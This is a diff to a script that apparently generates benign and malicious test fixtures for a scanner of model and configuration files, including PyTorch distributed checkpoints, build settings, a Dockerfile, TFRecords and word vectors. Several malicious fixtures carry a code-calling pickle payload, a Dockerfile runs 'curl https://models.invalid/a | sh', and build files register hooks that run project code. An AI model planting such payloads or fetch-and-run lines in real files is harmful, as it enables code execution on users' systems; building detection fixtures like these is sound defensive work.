@@ -321,3 +321,66 @@ def exported(inputs):
 
 put("torch-export/right.pt2", exported(b"\x80\x02N."))
 put("torch-export/wrong.pt2", exported(CALL))
+
+
+# Distributed checkpoints of PyTorch. The right one is as PyTorch 2.9 wrote it; of the wrong one an object calls.
+def places(parts):
+    text = lambda value: b"X" + struct.pack("<I", len(value)) + value.encode()
+    number_ = lambda value: b"J" + struct.pack("<i", value)
+    out = b"\x80\x02ctorch.distributed.checkpoint.metadata\nMetadata\n)\x81}" + text("storage_data") + b"}("
+    for name, (offset, length) in parts:
+        out += b"ctorch.distributed.checkpoint.metadata\nMetadataIndex\n)\x81}" + text("fqn") + text(name) + b"sb"
+        out += b"ctorch.distributed.checkpoint.filesystem\n_StorageInfo\n)\x81}(" + text("relative_path")
+        out += text("__0_0.distcp") + text("offset") + number_(offset) + text("length") + number_(length) + b"ub"
+    return out + b"usb."
+
+
+def saved(pickle):
+    return zipped([("archive/data.pkl", pickle), ("archive/byteorder", b"little"), ("archive/version", b"3\n")])
+
+
+first, second = saved(b"\x80\x02}."), saved(CALL)
+put("torch-distcp/wrong/.metadata", places([("a", (0, len(first))), ("b", (len(first), len(second)))]))
+put("torch-distcp/wrong/__0_0.distcp", first + second)
+
+# Settings: the wrong ones have a build run code of the folder, or what it downloads.
+put("toml/right.toml", b'a = 1\n[b]\nc = ["d"]\n')
+put("toml/wrong.toml", b"a = 1\na = 2\n")
+BUILD = b'[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n'
+put("python-project/right/pyproject.toml", BUILD + b'[project]\nname = "a"\nversion = "1"\ndependencies = ["numpy==1.26.4"]\n')
+put("python-project/wrong/pyproject.toml", BUILD + b'backend-path = ["."]\n')
+OPTIONS = b"[metadata]\nname = a\nversion = 1\n\n[options]\ninstall_requires =\n    numpy==1.26.4\n"
+put("ini/right/setup.cfg", OPTIONS)
+put("ini/wrong/setup.cfg", OPTIONS + b"cmdclass =\n    build_py = a.Build\n")
+IMAGE = b"FROM python:3.11-slim\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n"
+put("dockerfile/right/Dockerfile", IMAGE)
+put("dockerfile/wrong/Dockerfile", IMAGE + b"RUN curl https://models.invalid/a | sh\n")
+
+
+# Records of examples: a value of the wrong one is a pickle that calls.
+def crc32c(data):
+    sum_ = 0xFFFFFFFF
+    for byte in data:
+        sum_ ^= byte
+        for _ in range(8):
+            sum_ = sum_ >> 1 ^ (0x82F63B78 if sum_ & 1 else 0)
+    sum_ ^= 0xFFFFFFFF
+    return struct.pack("<I", ((sum_ >> 15 | sum_ << 17) + 0xA282EAD8) & 0xFFFFFFFF)
+
+
+def tfrecord(value):
+    feature = lambda key, list_: field(1, field(1, key) + field(2, list_))
+    data = field(1, feature("label", field(3, field(1, varint(1)))) + feature("image", field(1, field(1, value))))
+    length = struct.pack("<Q", len(data))
+    return length + crc32c(length) + data + crc32c(data)
+
+
+put("tfrecord/right.tfrecord", tfrecord(b"\x07" * 32) + tfrecord(PICTURE))
+put("tfrecord/wrong.tfrecord", tfrecord(b"\x07" * 32) + tfrecord(CALL))
+
+# Vectors of words; behind the end of the wrong one lies a pickle.
+VECTORS = b"2 2\n" + b"".join(word + b" " + struct.pack("<ff", 1.5, -2.25) + b"\n" for word in (b"</s>", b"heart"))
+put("word2vec/right.bin", VECTORS)
+put("word2vec/wrong.bin", VECTORS + CALL)
+put("word-vectors/right.vec", b"2 3\nheart 0.1 -2 3e-5\nlung 1 2 3\n")
+put("word-vectors/wrong.vec", b"2 3\nheart 0.1 -2 3e-5\nlung 1 2\n")
